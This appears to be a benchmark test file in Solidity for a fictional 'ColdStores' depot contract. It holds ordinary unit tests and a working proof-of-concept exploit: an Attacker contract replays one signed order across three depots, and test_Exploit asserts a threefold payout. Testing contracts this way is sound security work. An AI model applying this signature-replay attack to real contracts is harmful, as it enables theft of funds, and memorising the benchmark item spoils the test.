// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./ColdStores.sol";

// assay-canary-48d74dec-1912-4d38-9934-453e8ff62386

interface Vm {
    function warp(uint256 time) external;
    function addr(uint256 key) external returns (address);
    function sign(uint256 key, bytes32 digest) external returns (uint8 v, bytes32 r, bytes32 s);
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
}

contract Berries is IPallet {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

/// A buyer with one paid order, which it presents at every gate.
contract Attacker {
    ColdStores internal firm;
    ColdStore.Order internal order;
    bytes internal stamp;

    constructor(ColdStores firm_) {
        firm = firm_;
    }

    function receiveOrder(ColdStore.Order memory order_, bytes memory stamp_) external {
        (order, stamp) = (order_, stamp_);
    }

    function run() external {
        for (uint256 i = 0; i < 3; ++i) {
            try firm.depots(i).release(order, stamp) {} catch {}
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 internal constant KEY = 0xD15;
    bytes32 internal constant ORDER_TYPE =
        keccak256("Order(address good,address buyer,uint256 pallets,uint256 number,uint256 lastDay)");

    ColdStores internal firm;
    Berries internal berries;
    Attacker internal buyer;

    function setUp() public {
        vm.warp(1_700_000_000);
        firm = new ColdStores(vm.addr(KEY));
        berries = new Berries();
        berries.mint(address(this), 2_400);
        buyer = new Attacker(firm);
        string[3] memory towns = ["Aalen", "Brig", "Celle"];
        for (uint256 i = 0; i < 3; ++i) {
            ColdStore depot = firm.open(towns[i]);
            berries.approve(address(depot), 800);
            depot.leave(address(berries), 800);
        }
        // the buyer has paid for half of the first depot
        ColdStore.Order memory paid = _order(address(buyer), 400, 1);
        buyer.receiveOrder(paid, _stamp(0, paid));
        // and its haulier has been there
        firm.depots(0).release(paid, _stamp(0, paid));
    }

    function _order(address to, uint256 pallets, uint256 number) private view returns (ColdStore.Order memory) {
        return ColdStore.Order(address(berries), to, pallets, number, block.timestamp / 1 days + 5);
    }

    /// What the dispatcher signs for a depot.
    function _stamp(uint256 depot, ColdStore.Order memory order) private returns (bytes memory) {
        bytes32 content = keccak256(abi.encode(ORDER_TYPE, order));
        bytes32 digest = keccak256(abi.encodePacked(hex"1901", firm.depots(depot).domain(), content));
        (uint8 v, bytes32 r, bytes32 s) = vm.sign(KEY, digest);
        return abi.encodePacked(r, s, v);
    }

    function test_Regular() public {
        ColdStore depot = firm.depots(1);
        ColdStore.Order memory order = _order(address(0xB0B), 100, 2);
        bytes memory stamp = _stamp(1, order);
        depot.release(order, stamp);
        require(berries.balanceOf(address(0xB0B)) == 100 && depot.sold(address(berries)) == 100, "released");
        require(!_release(depot, order, stamp), "twice");
        order.number = 3;
        require(!_release(depot, order, stamp), "another number");
        stamp = _stamp(1, order);
        vm.warp(block.timestamp + 7 days);
        require(!_release(depot, order, stamp), "too late");
        depot.fetch(address(berries), 700);
        require(berries.balanceOf(address(this)) == 700, "fetched");
        (bool ok,) = address(depot).call(abi.encodeCall(depot.fetch, (address(berries), 101)));
        require(!ok, "more than was left");

        firm.setDispatcher(address(0xD2));
        require(firm.dispatcher() == address(0xD2), "another dispatcher");
    }

    function _release(ColdStore depot, ColdStore.Order memory order, bytes memory stamp) private returns (bool ok) {
        (ok,) = address(depot).call(abi.encodeCall(depot.release, (order, stamp)));
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// The board appoints and opens, and appoints somebody.
    function test_RefusesStrangers() public {
        refuses(address(buyer), ColdStores.BoardOnly.selector);
        firm.setDispatcher(address(buyer));
        refuses(address(buyer), ColdStores.BoardOnly.selector);
        firm.open("Dole");
        vm.expectRevert(ColdStores.NoDispatcher.selector);
        firm.setDispatcher(address(0));
    }

    /// Orders for nobody, stamps of another length, pallets that do not move.
    function test_RefusesOrders() public {
        ColdStore depot = firm.depots(1);
        ColdStore.Order memory order = _order(address(0), 1, 5);
        bytes memory stamp = _stamp(1, order);
        vm.expectRevert(ColdStore.NothingForNobody.selector);
        depot.release(order, stamp);
        order.buyer = address(0xB0B);
        stamp = _stamp(1, order);
        vm.expectRevert(abi.encodeWithSelector(Stamp.BadLength.selector, 66));
        depot.release(order, abi.encodePacked(stamp, uint8(0)));
        berries.approve(address(depot), 1);
        berries.sleep(true);
        vm.expectRevert(ColdStore.Refused.selector);
        depot.release(order, stamp);
        vm.expectRevert(ColdStore.Refused.selector);
        depot.leave(address(berries), 1);
        vm.expectRevert(ColdStore.Refused.selector);
        depot.fetch(address(berries), 1);
    }

    function exploit() public {
        buyer.run();
    }

    function test_Exploit() public {
        uint256 before = berries.balanceOf(address(buyer));
        exploit();
        require(before == 400 && berries.balanceOf(address(buyer)) == 1_200, "paid for once, received once");
    }

    function target() public view returns (address) {
        return address(firm.depots(1));
    }

    function attacker() public view returns (address) {
        return address(buyer);
    }

    function good() public view returns (address) {
        return address(berries);
    }
}
